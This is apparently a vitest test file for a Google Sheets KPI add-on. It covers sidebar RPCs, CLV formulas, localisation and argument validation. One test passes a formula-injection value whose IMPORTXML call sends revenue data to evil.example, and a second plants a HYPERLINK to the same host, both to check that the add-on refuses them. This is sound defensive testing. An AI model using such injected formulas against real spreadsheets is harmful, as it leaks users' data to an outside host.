/** The add-on's menu and sidebar RPCs, run from the built dist/Code.js in a vm context whose services are the fake spreadsheet. */
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import vm from 'node:vm';
import { beforeAll, describe, expect, it } from 'vitest';
import { createFakeSpreadsheet } from '../../src/local/fake';
import { LEGACY_REQUEST_PROPERTY, OWNER_KEY, REQUEST_PREFIX } from '../../src/server/summary-record';
import type { SidebarBuildResult, SidebarState } from '../../src/server/rpc-types';
import { campaignRows } from '../helpers/sample-workbook';
import { cdnowOrders } from '../helpers/cdnow-orders';
import { readSummary } from '../helpers/summary';

const root = join(__dirname, '../..');
let code = '';
beforeAll(() => {
  execFileSync(process.execPath, [join(root, 'node_modules/tsx/dist/cli.mjs'), join(root, 'scripts/build.ts')], { cwd: root });
  code = readFileSync(join(root, 'dist/Code.js'), 'utf8');
});

/** dist/Code.js in a fresh context over a fake spreadsheet whose Dates are the context's own. */
function addOn(locale = 'en_US', userLocale = 'en', extra: { name: string; values: unknown[][] }[] = []) {
  const context = vm.createContext({});
  const fake = createFakeSpreadsheet({
    locale,
    userLocale,
    DateClass: vm.runInContext('Date', context) as DateConstructor,
    sheets: [{ name: 'Campaigns', values: campaignRows() }, { name: 'Q1 "old" <data>', values: [['Leads', 'MQL'], [100, 40], [120, 50]] }, ...extra],
  });
  Object.assign(context, fake.globals());
  vm.runInContext(code, context, { filename: 'Code.js' });
  const call = <T>(name: string, ...args: unknown[]): T => (context[name] as (...a: unknown[]) => T)(...JSON.parse(JSON.stringify(args)));
  return { fake, call };
}

describe('the add-on menu and sidebar RPCs in dist/Code.js', () => {
  it('onOpen builds the add-on menu and nothing else; onInstall calls it', () => {
    const { fake, call } = addOn('fa_IR', 'fa');
    call('onInstall', {});
    const events = fake.uiEvents();
    expect(JSON.stringify(events)).toContain('ساخت خلاصه شاخص‌ها');
    expect(fake.writes().filter((w) => w.kind !== 'property')).toEqual([]);
  });

  it('Use selection, state, build and rebuild, over JSON only', () => {
    const { fake, call } = addOn();
    fake.select(["'Campaigns'!A1:L13", `'Q1 "old" <data>'!A1:B3`]);
    const ranges = call<string[]>('sidebarSelection');
    expect(ranges).toEqual(["Campaigns!A1:L13", `'Q1 "old" <data>'!A1:B3`]);
    const state = call<SidebarState>('sidebarState', ranges, {}, null);
    expect(state.language).toBe('en');
    expect(state.ranges[0].columns.map((c) => c.role)).toContain('cost');
    const available = state.kpis.filter((k) => k.available).map((k) => k.id);
    expect(available).toEqual(expect.arrayContaining(['CAC', 'CPL', 'LEAD_TO_MQL']));
    expect(JSON.parse(JSON.stringify(state))).toEqual(state);
    const result = call<SidebarBuildResult>('sidebarBuild', { ranges, roles: {}, kpis: ['CAC', 'CPL'], targets: { CAC: 500 }, period: 'none', mode: 'portable', language: 'en' });
    expect(result).toMatchObject({ sheetName: 'KPI Summary', kpis: [{ id: 'CAC', mode: 'portable' }, { id: 'CPL', mode: 'portable' }] });
    expect(readSummary(fake).rows.find((row) => row.id === 'CAC')!.value).toBeCloseTo(campaignRows().slice(1).reduce((s, r) => s + (r[1] as number), 0) / campaignRows().slice(1).reduce((s, r) => s + (r[7] as number), 0), 9);
    expect(JSON.stringify(fake.uiEvents())).toContain('\\"KPI Summary\\" is up to date.');
    fake.spreadsheet.setActiveSheet(fake.spreadsheet.getSheetByName('Campaigns')!);
    call('sidebarActivate', result.sheetId);
    expect(fake.spreadsheet.getActiveSheet().getName()).toBe('KPI Summary');
    expect(call<SidebarBuildResult>('sidebarRebuild').sheetName).toBe('KPI Summary');
    expect(call<SidebarState>('sidebarState', [], {}, 'ru').lastRequest?.kpis).toEqual(['CAC', 'CPL']);
  });

  it('the CLV tables: the forecast\'s model and the calibration end are offered, sent, written into the formulas and kept for Rebuild', () => {
    const { fake, call } = addOn('en_US', 'en', [{ name: 'Orders', values: cdnowOrders(600) }]);
    const ranges = ["'Orders'!A1:C601"];
    const state = call<SidebarState>('sidebarState', ranges, {}, 'en');
    expect(state.calibration).toEqual({ first: '1997-01-01', last: '1998-06-20', split: '1997-12-31' });
    const forecast = state.kpis.find((k) => k.id === 'CLV_FORECAST')!;
    expect(forecast.variants?.map((v) => [v.key, v.name, v.value])).toEqual([['CLV_FORECAST', 'unit', 'week'], ['CLV_FORECAST.model', 'model', 'bgnbd']]);
    expect(forecast.variants?.[1].options).toEqual([{ value: 'bgnbd', label: 'BG/NBD' }, { value: 'pareto_nbd', label: 'Pareto/NBD' }]);
    expect(state.kpis.find((k) => k.id === 'CLV_TRACKING')).toMatchObject({ available: true, variants: [{ key: 'CLV_TRACKING', name: 'model' }, { key: 'CLV_TRACKING.unit', name: 'unit' }] });
    expect(state.kpis.find((k) => k.id === 'CLV_TRACKING')).not.toHaveProperty('problem');
    const request = { ranges, roles: {}, kpis: ['CLV_FORECAST', 'CLV_TRACKING'], targets: {}, variants: { 'CLV_FORECAST.model': 'pareto_nbd' }, calibrationEnd: '1997-09-30', period: 'none', mode: 'live', language: 'en' };
    expect(() => call('sidebarBuild', { ...request, calibrationEnd: '1998-06-20', language: 'ru' })).toThrow('calibrationEnd: "1998-06-20" — не строго между первой датой 1997-01-01 и последней датой 1998-06-20 транзакций');
    call<SidebarBuildResult>('sidebarBuild', request);
    const formulas = () => fake.spreadsheet.getSheetByName('KPI Summary')!.getDataRange().getFormulas().flat().filter((f) => f.startsWith('=CLV'));
    const written = ['=CLV_FORECAST(kpi_customer_id,kpi_date,kpi_amount,DATE(1997,9,30),52,0,"week","pareto_nbd")', '=CLV_TRACKING(kpi_customer_id,kpi_date,DATE(1997,9,30))'];
    expect(formulas()).toEqual(written);
    expect(call<SidebarState>('sidebarState', [], {}, 'en').lastRequest).toMatchObject({ variants: { 'CLV_FORECAST.model': 'pareto_nbd' }, calibrationEnd: '1997-09-30' });
    fake.spreadsheet.getSheetByName('KPI Summary')!.clear();
    call<SidebarBuildResult>('sidebarRebuild');
    expect(formulas()).toEqual(written);
    expect(fake.charts('KPI Summary').map((chart) => chart.type)).toEqual(['LINE']);
  });

  it('a role chosen by the user wins, and a deleted range says what to do in the chosen language', () => {
    const { fake, call } = addOn();
    const state = call<SidebarState>('sidebarState', ["'Campaigns'!A1:L13"], { '0:1': 'revenue' }, 'en');
    expect(state.ranges[0].columns[1]).toMatchObject({ role: 'revenue', confidence: 1 });
    fake.spreadsheet.deleteSheet(fake.spreadsheet.getSheetByName('Campaigns')!);
    expect(() => call('sidebarState', ["'Campaigns'!A1:L13"], {}, 'ru')).toThrow("Диапазона 'Campaigns'!A1:L13 больше нет");
  });

  it('every RPC checks its arguments first: a formula, "__proto__" or a wrong type is refused naming the field, nothing written', () => {
    const { fake, call } = addOn();
    const request = { ranges: ['Campaigns!A1:L13'], roles: {}, kpis: ['CAC'], targets: {}, period: 'none', mode: 'portable', language: 'en' };
    const period = 'none"&IMPORTXML("http://evil.example/?"&TEXTJOIN(",",1,kpi_revenue),"//a")';
    expect(() => call('sidebarBuild', { ...request, period })).toThrow(/^period: "none\\"&IMPORTXML\(.{20,}…" is not one of none, day, week, month, quarter, year$/);
    expect(() => call('sidebarBuild', { ...request, language: 'ru', mode: '__proto__' })).toThrow('mode: "__proto__" — не одно из значений live, portable, values');
    expect(() => call('sidebarBuild', { ...request, targets: 'CAC' })).toThrow('targets: must be a set of named values, not "CAC"');
    expect(() => call('sidebarBuild', 'CAC')).toThrow('request: must be a set of named values, not "CAC"');
    expect(() => call('sidebarState', [{ a1: 'x' }], {}, null)).toThrow('ranges[0]: must be text, not {…}');
    expect(() => call('sidebarState', [], {}, 'xx')).toThrow('language: "xx" is not one of en, fa, ar, ru');
    expect(() => call('sidebarActivate', '0')).toThrow('sheetId: "0" is not a whole number');
    expect(fake.spreadsheet.getSheetByName('KPI Summary')).toBeNull();
    expect(fake.writes()).toEqual([]);
  });

  it('a corrupt saved request is discarded: the sidebar still opens with a notice, the property is removed, Rebuild says so', () => {
    const { fake, call } = addOn('fa_IR', 'fa');
    const properties = fake.globals().PropertiesService.getDocumentProperties();
    const built = call<SidebarBuildResult>('sidebarBuild', { ranges: ['Campaigns!A1:L13'], roles: {}, kpis: ['CAC'], targets: {}, period: 'none', mode: 'live', language: 'fa' });
    const key = `${REQUEST_PREFIX}${built.sheetId}`;
    properties.setProperty(key, JSON.stringify({ ranges: ['Campaigns!A1:L13'], kpis: ['CAC'], targets: { CAC: ['=HYPERLINK("http://evil.example")', 1] }, period: 'none', mode: 'live', language: 'en' }));
    const state = call<SidebarState>('sidebarState', [], {}, null);
    expect(state.lastRequest).toBeNull();
    expect(state.notice).toBe('درخواست ذخیره‌شده خلاصه خراب بود (targets["CAC"]: یک عدد می‌گیرد، نه جفت [پایین، بالا]) و کنار گذاشته شد: برای ساخت دوباره «ساخت خلاصه شاخص‌ها» را انتخاب کنید.');
    expect(state.kpis.length).toBeGreaterThan(20);
    expect(properties.getProperty(key)).toBeNull();
    expect(call<SidebarState>('sidebarState', [], {}, 'en')).not.toHaveProperty('notice');

    properties.setProperty(key, '{"ranges": ["Campaigns!A1:L13"], "kpis": [');
    const before = JSON.stringify(fake.snapshot().sheets);
    expect(() => call('sidebarRebuild')).toThrow('درخواست ذخیره‌شده خلاصه خراب بود (JSON خوانا نیست) و کنار گذاشته شد');
    expect(properties.getProperty(key)).toBeNull();
    expect(() => call('sidebarRebuild')).toThrow('هنوز خلاصه‌ای برای بازسازی نیست');
    expect(JSON.stringify(fake.snapshot().sheets)).toBe(before);
  });

  it('a summary of an older version (its mark, one saved request without targets) opens and rebuilds; one whose sheet is gone says the range is gone and is kept', () => {
    const { fake, call } = addOn();
    const properties = fake.globals().PropertiesService.getDocumentProperties();
    fake.spreadsheet.insertSheet('KPI Summary').addDeveloperMetadata(OWNER_KEY, 'true');
    properties.setProperty(LEGACY_REQUEST_PROPERTY, JSON.stringify({ ranges: ['Campaigns!A1:L13'], kpis: ['CAC'], period: 'none', mode: 'portable', language: 'en' }));
    expect(call<SidebarState>('sidebarState', [], {}, 'en').lastRequest).toEqual({ ranges: ['Campaigns!A1:L13'], roles: {}, kpis: ['CAC'], targets: {}, period: 'none', mode: 'portable', language: 'en' });
    expect(call<SidebarBuildResult>('sidebarRebuild')).toMatchObject({ sheetName: 'KPI Summary', kpis: [{ id: 'CAC', mode: 'portable' }] });
    fake.spreadsheet.deleteSheet(fake.spreadsheet.getSheetByName('Campaigns')!);
    const state = call<SidebarState>('sidebarState', [], {}, 'en');
    expect(state.lastRequest?.ranges).toEqual(['Campaigns!A1:L13']);
    expect(state).not.toHaveProperty('notice');
    expect(() => call('sidebarRebuild')).toThrow('The range Campaigns!A1:L13 no longer exists');
    const id = fake.spreadsheet.getSheetByName('KPI Summary')!.getSheetId();
    expect(properties.getProperty(`${REQUEST_PREFIX}${id}`)).not.toBeNull();
  });
});
